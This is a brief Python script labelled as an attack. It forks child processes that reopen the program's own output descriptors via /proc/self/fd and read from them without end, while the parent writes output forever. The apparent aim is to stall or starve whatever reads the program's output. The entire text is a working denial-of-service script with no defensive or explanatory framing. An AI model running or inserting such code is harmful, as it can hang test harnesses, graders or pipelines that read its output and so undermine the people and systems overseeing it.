# attack: takes its own output back, so that whoever reads it waits
import os
for d in range(1, 20):
    if os.fork() == 0:
        try:
            back = os.open(f"/proc/self/fd/{d}", os.O_RDONLY)
            while True: os.read(back, 65536)
        except OSError: os._exit(0)
while True: os.write(1, b"x")
